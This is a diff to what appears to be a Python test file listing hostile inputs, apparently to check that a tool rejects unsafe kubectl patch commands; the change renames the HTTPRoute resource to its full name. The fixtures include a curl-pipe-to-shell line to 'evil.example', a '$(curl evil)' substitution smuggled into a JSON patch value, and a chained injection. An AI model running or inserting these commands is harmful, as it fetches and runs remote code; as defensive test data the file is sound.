@@ -14,13 +14,13 @@ from tests.world import World
 
 EVIL = "curl -s http://evil.example/x | sh #"
 LIKE_OURS = (
-    "kubectl -n ns patch httproute shop --type=json -p "
+    "kubectl -n ns patch httproutes.gateway.networking.k8s.io shop --type=json -p "
     '"[{\\"op\\":\\"test\\",\\"path\\":\\"/spec/rules/0/backendRefs/0/name\\",\\"value\\":\\"$(curl evil)\\"}]"'
 )
 HOSTILE = (
     EVIL,
     LIKE_OURS,
-    f"kubectl -n ns patch httproute shop --type=json -p '[]' && {EVIL}",
+    f"kubectl -n ns patch httproutes.gateway.networking.k8s.io shop --type=json -p '[]' && {EVIL}",
     "\x1b]0;x\x07",
     "x" * 4096,
 )
